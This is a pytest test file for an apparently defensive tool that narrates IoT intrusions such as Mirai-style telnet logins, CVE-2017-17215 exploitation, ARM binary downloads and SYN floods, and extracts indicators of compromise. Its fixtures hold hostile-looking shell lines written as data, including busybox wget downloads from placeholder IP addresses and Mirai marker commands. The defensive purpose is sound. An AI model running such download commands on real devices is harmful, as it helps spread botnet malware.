import json
from dataclasses import replace

import pytest

from botwarden.detect.claim import Claim
from botwarden.detect.shell import Reading, read_commands
from botwarden.detect.story import Contact, Entry, Fetch, Story, Talk
from botwarden.detect.telling import LISTED, TOLD_COMMANDS, evidence, sentences

T = 1_685_716_200.0
LOGIN = Entry(T, "telnet", "84.54.50.198", 23, "guessed", True, user="root", lists=("mirai",), failed=7)
FETCH = Fetch(T + 10, "185.10.1.9", 80, "arm", "http://185.10.1.9/arm", "ELF 32-bit LSB ARM", 45_000, "ab" * 32)
BARE = Story((LOGIN,), 0, (), (), (), True)


def first(entry: Entry) -> str:
    return sentences(replace(BARE, entries=(entry,)))[0]


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        (LOGIN, "by 84.54.50.198, who logged in as root with a password of Mirai's list after 7 failed tries"),
        (
            replace(LOGIN, failed=1, lists=("default",)),
            "a password of the lists of factory passwords after 1 failed try",
        ),
        (replace(LOGIN, how="known", failed=0), "who logged in as root with a password of Mirai's list at once"),
        (replace(LOGIN, how="seen", lists=(), failed=0), "who logged in as root at once"),
        (replace(LOGIN, service="ssh", user=None, lists=()), "who logged in after 7 failed tries"),
        (replace(LOGIN, how="unseen"), "broken into over telnet before 14:30:00 UTC: 84.54.50.198 had a shell already"),
        (
            replace(LOGIN, service="http", how="exploit", signs=("CVE-2017-17215",), status=200),
            "attacked over HTTP at 14:30:00 UTC by 84.54.50.198: CVE-2017-17215, answered with 200",
        ),
    ],
)
def test_the_way_in(entry: Entry, words: str) -> None:
    assert words in first(entry)


def test_the_rest_comes_in_the_order_of_time() -> None:
    deed = Claim(1, "flood.syn", "attacker", 0.9, "critical", T + 5, T + 9, "flooded", 9.0)
    talk = Contact("185.10.1.2", 23, "tcp", Talk(T + 90_000, T + 90_100, 1, 1))
    typed = replace(LOGIN, commands=("sh", "/bin/busybox ECCHI"), reading=read_commands(["/bin/busybox ECCHI"]))
    story = Story((typed,), 2, (FETCH,), (talk,), (deed,), True)
    assert sentences(story)[0].endswith("; 2 more ways in")
    assert sentences(story)[1:] == [
        "ran: sh; /bin/busybox ECCHI (looks like Mirai)",
        "from 14:30:05 on it floods another machine (SYN)",
        "fetched an ARM executable, arm (45.0 kB, SHA-256 abababababababab…), from http://185.10.1.9/arm at 14:30:10",
        "since 2023-06-03 15:30:00 it talks to 185.10.1.2, TCP port 23",
    ]


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("ELF 32-bit MSB MIPS", "fetched a MIPS executable, "),
        ("ELF 64-bit LSB x86-64", "fetched an x86-64 executable, "),
        ("ELF 64-bit LSB AArch64", "fetched an AArch64 executable, "),
        ("ELF 32-bit LSB SuperH", "fetched a SuperH executable, "),
        ("ELF", "fetched an ELF, "),
        ("PE x86", "fetched a PE x86, "),
        ("shell script", "fetched a shell script, "),
        (None, "fetched a program by its name, "),
    ],
)
def test_programs_have_names(kind: str | None, words: str) -> None:
    story = replace(BARE, fetches=(replace(FETCH, kind=kind),))
    assert sentences(story)[1].startswith(words + "arm")


def test_what_a_stranger_typed_is_made_safe_and_short() -> None:
    lines = ("\x1b[31mred" * 50, *("x" * 900 for _ in range(60)))
    typed = replace(LOGIN, commands=lines, reading=Reading(points=9), user="\x1b" * 99, peer="p" * 999)
    told = sentences(replace(BARE, entries=(typed,), fetches=(replace(FETCH, name="n" * 999, url="\n" * 999),)))
    assert all(text.isprintable() for text in told)
    assert max(map(len, told)) < 500
    assert told[1].endswith("(looks like a bot)")


def test_of_many_commands_the_first_are_told_and_those_that_fetch() -> None:
    lines = [f"c{n}; /bin/busybox ECCHI" for n in range(9)]
    lines += ["/bin/busybox wget http://198.51.100.1/a -O - > x; /bin/busybox ECCHI", "rm x; /bin/busybox ECCHI"]
    typed = replace(LOGIN, commands=tuple(lines), reading=Reading(points=9))
    assert sentences(replace(BARE, entries=(typed,)))[1] == (
        "ran: c0; c1; c2; c3; c4; …; /bin/busybox wget http://198.51.100.1/a -O - > x; … (looks like a bot)"
    )
    few = replace(typed, commands=tuple(lines[:TOLD_COMMANDS]))
    assert "…" not in sentences(replace(BARE, entries=(few,)))[1]


def test_the_evidence_is_json_in_the_order_of_time() -> None:
    typed = replace(LOGIN, commands=("sh",), reading=read_commands(["wget http://198.51.100.1/a"], ["PEDO"]))
    exploit = replace(LOGIN, ts=T - 5, how="exploit", signs=("CVE-2017-17215",), status=200, outside=False)
    story = replace(BARE, entries=(exploit, typed), fetches=(FETCH,))
    told = evidence(story)
    assert json.loads(json.dumps(told)) == told
    assert [step["kind"] for step in told["steps"]] == ["exploit", "login", "commands", "download"]
    assert told["iocs"]["addresses"] == ["84.54.50.198", "185.10.1.9", "198.51.100.1"]
    assert told["iocs"]["urls"] == ["http://185.10.1.9/arm", "http://198.51.100.1/a"]
    assert told["iocs"]["tokens"] == ["PEDO"]
    many = replace(story, fetches=tuple(replace(FETCH, peer=str(n)) for n in range(99)))
    assert len(evidence(many)["iocs"]["addresses"]) == LISTED


def test_a_second_story_names_its_day() -> None:
    assert "at 14:30:00 UTC by" in sentences(BARE, T - 3600)[0]
    assert "at 2023-06-02 14:30:00 UTC by" in sentences(BARE, T - 86_400)[0]
